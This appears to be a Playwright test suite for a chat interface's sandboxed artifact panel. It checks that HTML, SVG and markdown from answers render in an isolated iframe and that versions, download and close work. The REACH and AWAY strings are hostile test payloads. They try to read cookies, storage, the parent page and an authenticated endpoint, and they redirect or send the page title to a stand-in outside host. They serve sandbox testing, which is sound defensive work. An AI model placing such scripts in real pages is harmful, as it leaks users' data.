"""HTML, SVG and documents of an answer, shown beside the conversation in a frame that reaches nothing."""

from collections.abc import AsyncIterator, Callable, Coroutine
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import Browser, expect

from tests.browser.axe import find_nothing
from tests.browser.person import Api, Person
from tests.browser.server import Server
from tests.browser.waiting import patiently

REACH = """<!doctype html><h1>Reached</h1><p id=told></p><script>
const tries = {
    storage: () => localStorage.setItem("a", "b"),
    cookie: () => document.cookie,
    parent: () => parent.document.title,
    network: () => fetch("/v1/me").then(() => "read"),
};
(async () => {
    const told = [origin];
    for (const [name, run] of Object.entries(tries)) {
        try { await run(); told.push(name); } catch (error) { told.push("no"); }
    }
    document.getElementById("told").textContent = told.join(" ");
})();
</script><img src="https://elsewhere.example/pixel.png">"""
AWAY = '<script>location.href = "https://elsewhere.example/?" + document.title</script>'


def _fence(kind: str, text: str) -> str:
    return f"Repeat ```{kind}\n{text}\n```"


Hostile = Callable[..., Coroutine[Any, Any, tuple[Person, list[str], list[str]]]]


@pytest_asyncio.fixture(loop_scope="session")
async def hostile(browser: Browser, stage: Server) -> AsyncIterator[Hostile]:
    """Opens somebody whose page may try what the policy forbids; with what was answered, and what was refused."""
    opened = []

    async def open_one(**options: Any) -> tuple[Person, list[str], list[str]]:
        opened.append(context := await browser.new_context(reduced_motion="reduce", **options))
        page, answered, refused = await context.new_page(), list[str](), list[str]()
        page.on("response", lambda answer: answered.append(answer.url))
        page.on("console", lambda message: refused.append(message.text))
        return Person(page, stage.url), answered, refused

    yield open_one
    for context in opened:
        await context.close()


@pytest.mark.parametrize(("way", "width"), [("light", 1280), ("dark", 390)])
async def test_html_is_shown_beside_the_conversation_and_reaches_nothing(
    hostile: Hostile, api: Api, way: str, width: int
) -> None:
    person, answered, _ = await hostile(color_scheme=way, viewport={"width": width, "height": 844})
    await person.open(await api.begin(_fence("html", REACH)))
    await person.answers.get_by_role("button", name="Open beside").click()
    shown = person.page.get_by_test_id("artifact")
    inside = shown.frame_locator("iframe")
    await expect(inside.get_by_role("heading", name="Reached")).to_be_visible()
    await expect(inside.locator("#told")).to_have_text("null no no no no")
    assert not [url for url in answered if "elsewhere" in url]
    assert len([url for url in answered if url.endswith("/v1/me")]) == 1
    assert await shown.locator("iframe").get_attribute("sandbox") == "allow-scripts"
    await find_nothing(person.page, "an artifact")
    await person.page.keyboard.press("Escape")
    await expect(shown).to_have_count(0)
    await expect(person.answers.get_by_role("button", name="Open beside")).to_be_focused()


async def test_what_is_shown_cannot_lead_its_frame_elsewhere(hostile: Hostile, api: Api) -> None:
    person, answered, refused = await hostile()
    await person.open(await api.begin(_fence("html", AWAY)))
    await person.answers.get_by_role("button", name="Open beside").click()

    async def is_refused() -> bool:
        return any("frame-src" in text for text in refused)

    await patiently(is_refused)
    await expect(person.field).to_be_visible()
    assert not [url for url in answered if "elsewhere" in url]


async def test_versions_follow_the_conversation_and_can_be_walked_copied_and_downloaded(
    person: Person, api: Api
) -> None:
    page = person.page
    drawing = (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><title>{}</title><circle r="4" cx="4" cy="4"/></svg>'
    )
    id = await api.begin(_fence("svg", drawing.format("first")))
    await person.open(id)
    await person.answers.get_by_role("button", name="Open beside").click()
    shown = page.get_by_test_id("artifact")
    title = shown.frame_locator("iframe").locator("svg title")
    await expect(title).to_have_text("first")
    await api.say(id, _fence("svg", drawing.format("second")))
    await expect(title).to_have_text("second")
    await expect(shown.get_by_role("group", name="Versions")).to_have_text("2/2")
    await shown.get_by_role("button", name="Previous version").click()
    await expect(title).to_have_text("first")
    async with page.expect_download() as started:
        await shown.get_by_role("button", name="Download").click()
    file = await (await started.value).path()
    assert file.read_text() == drawing.format("first")
    assert (await started.value).suggested_filename == "artifact.svg"
    await shown.get_by_role("button", name="Close").click()
    await expect(shown).to_have_count(0)


async def test_a_document_in_markdown_is_drawn_as_the_page_draws_it(person: Person, api: Api) -> None:
    await person.open(await api.begin(_fence("md", "# A report\n\nWith **words**.")))
    await person.answers.get_by_role("button", name="Open beside").click()
    await expect(person.page.get_by_test_id("artifact").get_by_role("heading", name="A report")).to_be_visible()
